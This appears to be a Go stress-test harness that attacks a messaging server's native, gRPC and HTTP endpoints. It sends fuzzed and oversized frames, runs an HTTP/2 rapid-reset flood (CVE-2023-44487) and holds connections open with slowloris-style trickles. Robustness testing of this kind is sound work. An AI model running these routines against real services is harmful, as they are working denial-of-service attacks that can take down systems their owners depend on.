// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"sync"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	attackers   = 64 // connections of each kind of attack at once
	attackPause = 5 * time.Millisecond
)

// attack runs attacks of a kind until it is killed.
func attack(kind, native, grpc, web string) error {
	if err := syscall.Setpriority(syscall.PRIO_PROCESS, 0, 19); err != nil {
		return fmt.Errorf("yield to the server: %w", err)
	}
	kinds := map[string]func(*rand.Rand, int){
		"garbage": func(rng *rand.Rand, _ int) { garbage(rng, native) },
		"resets":  func(*rand.Rand, int) { rapidReset(grpc) },
		"slow":    func(_ *rand.Rand, i int) { slowly([]string{native, web, grpc}[i%3], i%3) },
	}
	var all sync.WaitGroup
	for name, work := range kinds {
		if kind != name && kind != "all" {
			continue
		}
		for i := range attackers {
			all.Go(func() {
				rng := rand.New(rand.NewPCG(uint64(i), 1))
				for {
					work(rng, i)
					time.Sleep(attackPause)
				}
			})
		}
	}
	all.Wait()
	return nil
}

// garbage sends random bytes, frames with flipped bits, cut frames, frames that claim 15 MiB, and lengths over the
// limit, each on a connection of its own.
func garbage(rng *rand.Rand, addr string) {
	conn, err := dialRaw(addr)
	if err != nil {
		return
	}
	defer conn.Close()
	good := frame(310, rng.Int32(), `"a":"bench","b":"bad","e":"0","f":"0","g":"0","h":"0"`, "x")
	var b []byte
	switch rng.IntN(5) {
	case 0:
		b = make([]byte, rng.IntN(4096))
		for i := range b {
			b[i] = byte(rng.Uint32())
		}
	case 1:
		b = good
		for range 1 + rng.IntN(8) {
			b[4+rng.IntN(len(b)-4)] ^= byte(1 + rng.IntN(255))
		}
	case 2:
		b = good[:rng.IntN(len(good))]
	case 3:
		b = binary.BigEndian.AppendUint32(nil, 15<<20)
		b = append(append(b, 0, 0, 0, 2, '{', '}'), make([]byte, rng.IntN(300<<10))...)
	default:
		b = binary.BigEndian.AppendUint32(nil, 1<<31-1)
	}
	_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := conn.Write(b); err == nil {
		_ = conn.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
		_, _ = io.Copy(io.Discard, conn)
	}
}

// rapidReset opens streams and resets each at once (CVE-2023-44487), ten thousand on a connection or until it is
// closed.
func rapidReset(addr string) {
	conn, err := dialRaw(addr)
	if err != nil {
		return
	}
	defer conn.Close()
	go io.Copy(io.Discard, conn)
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return
	}
	var head bytes.Buffer
	fields := hpack.NewEncoder(&head)
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", "/apache.rocketmq.v2.MessagingService/QueryRoute"}, {":authority", "x"},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		_ = fields.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // a buffer takes everything
	}
	var out bytes.Buffer
	frames := http2.NewFramer(&out, nil)
	_ = frames.WriteSettings()
	for stream := uint32(1); stream < 20_000; stream += 2 {
		_ = frames.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head.Bytes(), EndHeaders: true})
		_ = frames.WriteRSTStream(stream, http2.ErrCodeCancel)
		if out.Len() > 16<<10 {
			if _, err := conn.Write(out.Bytes()); err != nil {
				return
			}
			out.Reset()
			time.Sleep(attackPause)
		}
	}
}

// slowly begins a request and goes on with a byte a second: a native frame, an HTTP/1 header, an HTTP/2 preface.
func slowly(addr string, kind int) {
	conn, err := dialRaw(addr)
	if err != nil {
		return
	}
	defer conn.Close()
	begin := []string{"\x00\x10\x00\x00\x00\x00\x01\x00{", "GET / HTTP/1.1\r\nHost: x\r\nX: ", http2.ClientPreface[:16]}[kind]
	if _, err := io.WriteString(conn, begin); err != nil {
		return
	}
	for isOpen(conn) {
		if _, err := conn.Write([]byte{'x'}); err != nil {
			return
		}
	}
}

// isOpen waits a second for the other side to close.
func isOpen(conn net.Conn) bool {
	_ = conn.SetReadDeadline(time.Now().Add(time.Second))
	_, err := io.Copy(io.Discard, conn)
	timeout, ok := err.(net.Error)
	return ok && timeout.Timeout()
}
